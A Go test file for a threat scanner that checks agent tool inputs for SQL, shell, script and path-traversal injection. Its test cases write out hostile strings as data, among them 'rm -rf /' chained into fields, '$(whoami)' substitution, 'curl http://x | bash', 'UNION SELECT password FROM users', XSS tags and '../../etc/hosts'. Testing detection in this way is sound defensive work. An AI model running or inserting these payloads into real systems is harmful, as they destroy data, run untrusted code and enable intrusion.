package threat_test

import (
	"context"
	"strings"
	"testing"

	"github.com/aaron031291/grace-2-sub022/internal/threat"
	"go.uber.org/zap"
)

var ctx = context.Background()

func newScanner() *threat.Scanner {
	return threat.NewScanner(threat.Config{}, zap.NewNop())
}

func categories(alerts []threat.Alert) map[string]int {
	out := map[string]int{}
	for _, a := range alerts {
		out[a.Category]++
	}
	return out
}

func TestScan_cleanInput(t *testing.T) {
	alerts := newScanner().Scan(ctx, "file.write", "agent-7", map[string]any{
		"path":  "/srv/data/report.txt",
		"bytes": 42,
		"note":  "quarterly numbers, see attached",
	})
	if len(alerts) != 0 {
		t.Errorf("expected no alerts, got %+v", alerts)
	}
}

func TestScan_categories(t *testing.T) {
	tests := []struct {
		name     string
		input    any
		category string
	}{
		{"union select", map[string]string{"q": "1 UNION SELECT password FROM users"}, threat.CategorySQLInjection},
		{"tautology", map[string]string{"user": "admin' OR '1'='1"}, threat.CategorySQLInjection},
		{"stacked ddl", "x'; DROP TABLE users", threat.CategorySQLInjection},
		{"chained command", map[string]string{"host": "example.com; rm -rf /"}, threat.CategoryShellInjection},
		{"substitution", map[string]string{"name": "$(whoami)"}, threat.CategoryShellInjection},
		{"pipe to shell", "curl http://x | bash", threat.CategoryShellInjection},
		{"script tag", map[string]string{"bio": "<script>alert(1)</script>"}, threat.CategoryScriptInjection},
		{"event handler", `<img src=x onerror=alert(1)>`, threat.CategoryScriptInjection},
		{"dot dot slash", map[string]string{"file": "../../etc/hosts"}, threat.CategoryPathTraversal},
		{"encoded traversal", "/static/%2e%2e%2fsecret", threat.CategoryPathTraversal},
	}
	s := newScanner()
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			alerts := s.Scan(ctx, "test", "tester", tc.input)
			if categories(alerts)[tc.category] == 0 {
				t.Errorf("expected a %s alert, got %+v", tc.category, alerts)
			}
			for _, a := range alerts {
				if a.Pattern == "" || a.Confidence <= 0 {
					t.Errorf("alert missing pattern or confidence: %+v", a)
				}
			}
		})
	}
}

func TestScan_oversizedPayload(t *testing.T) {
	s := threat.NewScanner(threat.Config{MaxPayloadBytes: 128}, zap.NewNop())
	alerts := s.Scan(ctx, "upload", "agent-1", map[string]string{"blob": strings.Repeat("a", 500)})

	got := categories(alerts)
	if got[threat.CategoryOversized] != 1 || len(alerts) != 1 {
		t.Errorf("expected exactly one oversized alert, got %+v", alerts)
	}
}

func TestScan_unserialisableInputStillScanned(t *testing.T) {
	type weird struct {
		Cmd string
		Ch  chan int
	}
	alerts := newScanner().Scan(ctx, "exec", "agent-1", weird{Cmd: "ls && rm -rf /"})
	if categories(alerts)[threat.CategoryShellInjection] == 0 {
		t.Errorf("expected fallback projection to be scanned, got %+v", alerts)
	}
}

func TestSummarize(t *testing.T) {
	r := threat.Summarize(nil)
	if r.Score != 0 || r.Severity != "none" || r.Alerts == nil {
		t.Errorf("empty summary: %+v", r)
	}

	alerts := newScanner().Scan(ctx, "q", "a", "1 UNION SELECT x; DROP TABLE t; $(id) <script>")
	r = threat.Summarize(alerts)
	if r.Score < 65 {
		t.Errorf("expected high score for many alerts, got %d (%s)", r.Score, r.Severity)
	}
	if r.Score > 100 {
		t.Errorf("score not capped: %d", r.Score)
	}
}
